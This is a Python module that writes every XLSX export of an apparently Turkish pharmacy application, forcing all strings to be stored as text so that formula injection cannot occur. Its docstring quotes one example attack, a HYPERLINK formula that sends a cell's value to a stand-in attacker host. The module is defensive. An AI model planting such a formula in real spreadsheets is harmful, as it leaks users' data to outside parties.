"""The one XLSX writer: every workbook the project produces goes through :func:`write_workbook`.

Why one writer (STYLE.md §14, issue 13 "No formula ever leaves in an export"): a count session
name such as ``=HYPERLINK("http://evil.example/?x="&B9, "Tıkla")``, a product name from a
catalog file or an applicant id from a placement file is people's text. Written with
xlsxwriter's generic ``write()`` it became a formula in the pharmacist's Excel. Here:

- every ``str`` is written with ``write_string`` — a shared/inline string cell, never a formula,
  whatever it starts with (``=``, ``+``, ``-``, ``@``, tab, carriage return), never turned into a
  number or a URL either (the workbook is opened with ``strings_to_formulas``,
  ``strings_to_numbers`` and ``strings_to_urls`` off as a second fence);
- ``int``/``float``/``Decimal`` stay numbers (``write_number``), ``date``/``datetime`` are real
  Excel dates shown as ``dd.mm.yyyy`` (``dd.mm.yyyy hh:mm``), ``bool`` is written ``evet``/``hayır``;
- a column declared ``text`` (GTIN, serial, ids) writes even a number as a string, so leading
  zeros survive.

Streaming: ``Sheet.rows`` may be any iterable — a generator reading the database row by row.
The workbook is written with xlsxwriter's ``constant_memory`` mode (each row is flushed to a temp
file once the next one starts), so memory stays bounded however many rows a count or a
reconciliation holds. Sheets are written one after the other, in the given order; ``sheets`` may
itself be a generator, so a sheet's rows can be queried only when its turn comes.

Every module that produces an XLSX registers it with :func:`register` (a name and the
user-supplied fields that reach it); ``tests/security/test_formula_injection.py`` reads the
registry and fails for an export it does not exercise.

>>> import io, openpyxl
>>> buf = io.BytesIO()
>>> write_workbook(buf, [Sheet("Özet", [Column("Ad"), Column("Adet")],
...                            [["=1+1", 3], ["@SUM(1)", 2.5]])])
>>> ws = openpyxl.load_workbook(buf)["Özet"]
>>> [(c.value, c.data_type) for c in ws[2]]
[('=1+1', 's'), (3, 'n')]
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import IO, Any, Literal

ColumnKind = Literal["auto", "text"]

DATE_FORMAT = "dd.mm.yyyy"
DATETIME_FORMAT = "dd.mm.yyyy hh:mm"

MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

REGISTRY: dict[str, tuple[str, ...]] = {}
"""Export name → the user-supplied fields that reach its cells (read by the injection test)."""


def register(name: str, *fields: str) -> None:
    """Declare an XLSX export (called at import time by the module that builds it)."""
    REGISTRY[name] = fields


@dataclass(frozen=True)
class Column:
    """A column: its Turkish title, width (characters) and kind (``text`` forces strings)."""

    title: str
    width: float | None = None
    kind: ColumnKind = "auto"


@dataclass
class Sheet:
    """One worksheet: a header row of ``columns`` then ``rows`` (any iterable, streamed).

    ``header_row=False`` writes no title row (a key/value sheet such as Özet, whose first column
    is bold instead). ``page_header`` is printed at the top left of each printed page.
    """

    name: str
    columns: Sequence[Column]
    rows: Iterable[Sequence[Any]]
    header_row: bool = True
    autofilter: bool = True
    freeze: bool = True
    bold_first_column: bool = False
    page_header: str = ""
    extra_widths: dict[int, float] = field(default_factory=dict)


def _sheet_name(name: str) -> str:
    """Excel's rules: at most 31 characters, none of ``[]:*?/\\``."""
    clean = "".join("-" if ch in "[]:*?/\\" else ch for ch in name).strip("'")
    return clean[:31] or "Sayfa"


def write_workbook(target: Path | str | IO[bytes], sheets: Iterable[Sheet], *, title: str = "",
                   subject: str = "", comments: str = "") -> None:
    """Write ``sheets`` to ``target`` (a path or a binary file object), rows streamed.

    Returns once the file is complete (the zip is closed)."""
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(target) if isinstance(target, Path) else target, {
        "constant_memory": True, "strings_to_formulas": False, "strings_to_numbers": False,
        "strings_to_urls": False, "remove_timezone": True})
    wb.set_properties({"title": title, "subject": subject,
                       "comments": comments or "eczane", "author": "eczane"})
    bold = wb.add_format({"bold": True})
    head = wb.add_format({"bold": True, "bg_color": "#EEF2F4"})
    dfmt = wb.add_format({"num_format": DATE_FORMAT})
    tfmt = wb.add_format({"num_format": DATETIME_FORMAT})
    for sh in sheets:
        ws = wb.add_worksheet(_sheet_name(sh.name))
        for c, col in enumerate(sh.columns):
            if col.width:
                ws.set_column(c, c, col.width)
        for c, width in sh.extra_widths.items():
            ws.set_column(c, c, width)
        first = 0
        if sh.header_row:
            first = 1
            for c, col in enumerate(sh.columns):
                ws.write_string(0, c, col.title, head)
        kinds = [col.kind for col in sh.columns]
        last = first - 1
        for last, row in enumerate(sh.rows, start=first):
            for c, v in enumerate(row):
                fmt = bold if sh.bold_first_column and c == 0 else None
                _cell(ws, last, c, v, kinds[c] if c < len(kinds) else "auto", fmt, dfmt, tfmt)
        if sh.header_row and sh.autofilter and sh.columns:
            ws.autofilter(0, 0, max(last, 1), len(sh.columns) - 1)
        if sh.header_row and sh.freeze:
            ws.freeze_panes(1, 0)
        if sh.page_header:
            ws.set_header("&L" + sh.page_header.replace("&", "&&"))
    wb.close()


def _cell(ws: Any, r: int, c: int, v: Any, kind: ColumnKind, fmt: Any, dfmt: Any,
          tfmt: Any) -> None:
    """One cell, by the value's Python type; a string is always a string."""
    if v is None or v == "":
        return  # an empty cell costs nothing; a million matched rows add up
    if isinstance(v, str):
        ws.write_string(r, c, v, fmt)
    elif kind == "text":
        ws.write_string(r, c, str(v), fmt)
    elif isinstance(v, bool):
        ws.write_string(r, c, "evet" if v else "hayır", fmt)
    elif isinstance(v, int | float | Decimal):
        ws.write_number(r, c, float(v) if isinstance(v, Decimal) else v, fmt)
    elif isinstance(v, datetime):
        ws.write_datetime(r, c, v, tfmt)
    elif isinstance(v, date):
        ws.write_datetime(r, c, v, dfmt)
    else:
        ws.write_string(r, c, str(v), fmt)


def workbook_bytes(sheets: Iterable[Sheet], **properties: str) -> bytes:
    """The workbook in memory (small exports: placement results, tests)."""
    buf = io.BytesIO()
    write_workbook(buf, sheets, **properties)
    return buf.getvalue()
